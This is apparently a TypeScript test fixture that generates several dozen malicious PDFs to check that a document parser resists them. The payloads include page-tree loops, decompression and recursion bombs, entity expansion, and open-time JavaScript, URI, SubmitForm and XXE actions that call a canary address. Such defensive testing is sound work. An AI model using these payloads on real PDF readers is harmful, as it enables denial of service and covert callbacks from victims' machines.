import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import * as samples from '../../../src/documents/testing/sample-documents.ts';
import { type Bomb, mutationsOf } from './bomb.ts';

const { rawPdf, stream } = samples;
const CATALOGUE = '<</Type/Catalog/Pages 2 0 R>>';
const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const FONT = '<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>';

/** One page with these contents (object 4), these resources, and what else there is from object 5 on. */
const page = (contents: string | Buffer, resources = FONT, ...others: (string | Buffer)[]): Buffer =>
  rawPdf([CATALOGUE, PAGES, `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources${resources}/Contents 4 0 R>>`, contents, ...others]);
const words = (text: string): Buffer => stream(Buffer.from(`BT /F1 12 Tf 60 700 Td (${text}) Tj ET`));
const TEXT = 'The text of a page that is long enough to be taken for a page of text';

/** Packed as often as `times`, with as many filters. */
function packedTimes(times: number, content: Buffer): Buffer {
  let packed = content;
  for (let i = 0; i < times; i++) packed = deflateSync(packed);
  return Buffer.concat([
    Buffer.from(`<</Filter[${'/FlateDecode'.repeat(times)}]/Length ${packed.length}>>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ]);
}

const stored = (dictionary: string, content: Buffer | string): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${content.length}>>\nstream\n`),
    Buffer.from(content as string),
    Buffer.from('\nendstream'),
  ]);

const pdf = (name: string, make: () => Buffer | Promise<Buffer>, ...ends: string[]): Bomb => ({
  name,
  make,
  mimeType: 'application/pdf',
  ends,
});
/** What it does is bounded, so that it may be read, or given up for one reason or the other. */
const bounded = (name: string, make: () => Buffer | Promise<Buffer>): Bomb =>
  pdf(name, make, 'read', 'unreadable_document', 'document_memory', 'document_timeout', 'too_many_pixels');

/** PDFs that loop, swell or lie. `canary` is an address that nobody may call. */
export const pdfBombs = (canary: string): Bomb[] => [
  pdf('a page tree that is its own child', samples.pageTreeLoop, 'unreadable_document'),
  pdf(
    'page trees that are each other’s child',
    () => rawPdf([CATALOGUE, '<</Type/Pages/Kids[3 0 R]/Count 9>>', '<</Type/Pages/Kids[2 0 R]/Count 9>>']),
    'unreadable_document',
  ),
  pdf(
    'a parent that is its child',
    () => rawPdf([CATALOGUE, '<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>']),
    'unreadable_document',
  ),
  pdf(
    'a million pages that are one',
    () =>
      rawPdf([
        CATALOGUE,
        `<</Type/Pages/Kids[${'3 0 R '.repeat(1_000_000)}]/Count 1000000>>`,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>',
      ]),
    'too_many_pages',
    'document_memory',
    'unreadable_document',
  ),
  pdf('three thousand pages', samples.manyPages, 'too_many_pages'),
  pdf('one page that says it is a million', samples.lyingPageCount, 'read'),
  pdf(
    'a count of pages that is no number',
    () => rawPdf([CATALOGUE, '<</Type/Pages/Kids[3 0 R]/Count(many)>>', '<</Type/Page/Parent 2 0 R>>']),
    'read',
    'unreadable_document',
  ),
  pdf(
    'a count of pages below nothing',
    () => rawPdf([CATALOGUE, '<</Type/Pages/Kids[3 0 R]/Count -7>>', '<</Type/Page/Parent 2 0 R>>']),
    'read',
    'unreadable_document',
  ),
  pdf(
    'a picture of ten thousand megapixels',
    samples.hugePictureInPdf,
    'read',
    'document_memory',
    'unreadable_document',
    'too_many_pixels',
  ),
  pdf('a page of three hundred metres', samples.hugePage, 'too_many_pixels'),
  pdf('a drawing of 130 MB', samples.drawingBomb, 'document_memory', 'document_timeout'),
  pdf('arrays a hundred thousand deep', samples.deepNesting, 'unreadable_document'),
  bounded('dictionaries a hundred thousand deep', () => page(words(TEXT), '<</A'.repeat(100_000) + '>>'.repeat(100_000))),
  bounded('text packed fifty times', () => page(packedTimes(50, Buffer.from(`BT /F1 12 Tf 60 700 Td (${TEXT}) Tj ET`)))),
  bounded('a hundred megabytes of blanks, packed twice', () => page(packedTimes(2, Buffer.alloc(100_000_000, ' ')))),
  bounded('a hundred thousand filters', () => page(stored(`/Filter[${'/ASCIIHexDecode'.repeat(100_000)}]`, '41'))),
  bounded('run lengths that swell', () =>
    page(stored('/Filter[/RunLengthDecode/RunLengthDecode/RunLengthDecode]', Buffer.alloc(400_000, 0x81))),
  ),
  bounded('a stream that is its own length', () => page(Buffer.from('<</Length 4 0 R>>\nstream\nBT ET\nendstream'))),
  bounded('a stream that says it has four gigabytes', () => page(Buffer.from('<</Length 4294967295>>\nstream\nBT ET\nendstream'))),
  bounded('a form that draws itself', () =>
    page(
      stream(Buffer.from('/X Do')),
      '<</XObject<</X 5 0 R>>>>',
      stream(Buffer.from('/X Do'), '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>'),
    ),
  ),
  bounded('forms that draw each other ten times, ten deep', multiplyingForms),
  bounded('a pattern within itself', () =>
    page(
      stream(Buffer.from('/Pattern cs /P scn 0 0 600 800 re f')),
      '<</Pattern<</P 5 0 R>>>>',
      stream(
        Buffer.from('/Pattern cs /P scn 0 0 1 1 re f'),
        '/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 1/YStep 1/Resources<</Pattern<</P 5 0 R>>>>',
      ),
    ),
  ),
  bounded('a font whose letters are written in itself', () =>
    page(
      words(TEXT),
      '<</Font<</F1 5 0 R>>>>',
      '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</F1 5 0 R>>>>>>',
      stream(Buffer.from('BT /F1 1 Tf (a) Tj ET')),
    ),
  ),
  bounded('a font that is noise', () =>
    page(
      words(TEXT),
      '<</Font<</F1<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</FontFile2 5 0 R>>>>>>>>',
      stream(randomBytes(50_000)),
    ),
  ),
  bounded('a map of letters with ranges over everything', () =>
    page(
      words(TEXT),
      '<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 5 0 R>>>>>>',
      stream(
        Buffer.from(
          `begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange ${'1 beginbfrange <0000> <FFFF> <0000> endbfrange '.repeat(500)} endcmap`,
        ),
      ),
    ),
  ),
  bounded('a million saved states', () => page(stream(Buffer.from('q '.repeat(1_000_000))))),
  pdf(
    'three hundred thousand words on a page',
    () => page(stream(Buffer.from(`BT /F1 1 Tf ${'1 0 0 1 9 9 Tm (a b c) Tj '.repeat(100_000)} ET`))),
    'document_memory',
    'read',
    'document_timeout',
  ),
  bounded('a cross-reference that leads back to itself', () => replaceIn(page(words(TEXT)), '/Root 1 0 R', '/Root 1 0 R/Prev 9')),
  bounded('a table of objects that says it has a billion', () => replaceIn(page(words(TEXT)), /\/Size \d+/, '/Size 999999999')),
  bounded('objects within objects that are themselves', () =>
    page(words(TEXT), FONT, stream(Buffer.from('5 0 <</A 5 0 R>>'), '/Type/ObjStm/N 1/First 4/Extends 5 0 R')),
  ),
  bounded('a function that samples a billion points', () =>
    page(
      stream(Buffer.from('/S sh')),
      '<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 5 0 R>>>>>>',
      stream(Buffer.alloc(1000), '/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[32768 32768]/BitsPerSample 8'),
    ),
  ),
  bounded('a page without an end', () => replaceIn(page(words(TEXT)), '/MediaBox[0 0 600 800]', '/MediaBox[0 0 1e38 1e38]')),
  bounded('a page with no size', () => replaceIn(page(words(TEXT)), '/MediaBox[0 0 600 800]', '/MediaBox[5 5 5 5]')),
  bounded('a page that is turned by half a right angle', () =>
    replaceIn(page(words(TEXT)), '/MediaBox', '/Rotate 45/UserUnit 1e9/MediaBox'),
  ),
  pdf(
    'a script that runs on opening',
    () => replaceIn(page(words(TEXT)), '/Type/Catalog', `/Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('${canary}'))>>`),
    'read',
  ),
  pdf(
    'an address that is called on opening',
    () =>
      replaceIn(
        page(words(TEXT)),
        '/Type/Catalog',
        `/Type/Catalog/OpenAction<</S/URI/URI(${canary}/open)>>/AA<</WC<</S/SubmitForm/F(${canary}/form)>>>>`,
      ),
    'read',
  ),
  pdf(
    'contents that are a file elsewhere',
    () => page(Buffer.from(`<</F<</FS/URL/F(${canary}/contents)>>/Length 0>>\nstream\n\nendstream`)),
    'read',
    'unreadable_document',
  ),
  pdf(
    'XFA that declares entities',
    () =>
      replaceIn(
        page(words(TEXT)),
        '/Type/Catalog',
        `/Type/Catalog/AcroForm<</XFA(<!DOCTYPE a [<!ENTITY x SYSTEM "${canary}/xfa">]><a>&x;</a>)>>`,
      ),
    'read',
  ),
  bounded('metadata with entities that multiply', () =>
    replaceIn(
      page(words(TEXT), FONT, stored('/Type/Metadata/Subtype/XML', '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>')),
      '/Type/Catalog',
      '/Type/Catalog/Metadata 5 0 R',
    ),
  ),
  bounded('a hundred thousand notes on a page', () =>
    replaceIn(page(words(TEXT)), '/MediaBox', `/Annots[${'<</Subtype/Text>>'.repeat(100_000)}]/MediaBox`),
  ),
  pdf('noise behind a header', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(200_000)]), 'unreadable_document'),
  pdf('a header and nothing else', () => Buffer.from('%PDF-1.7\n'), 'unreadable_document'),
  ...mutationsOf('PDF', 'application/pdf', () => samples.pdfOf([TEXT, 'A second page with words']), 20),
];

function replaceIn(bytes: Buffer, found: string | RegExp, by: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replace(found, by), 'latin1');
}

function multiplyingForms(): Buffer {
  const forms = Array.from({ length: 10 }, (_, level) =>
    stream(
      Buffer.from(level === 9 ? '0 0 1 1 re f' : '/X Do '.repeat(10)),
      `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${6 + level} 0 R>>>>`,
    ),
  );
  return page(stream(Buffer.from('/X Do '.repeat(10))), '<</XObject<</X 5 0 R>>>>', ...forms);
}
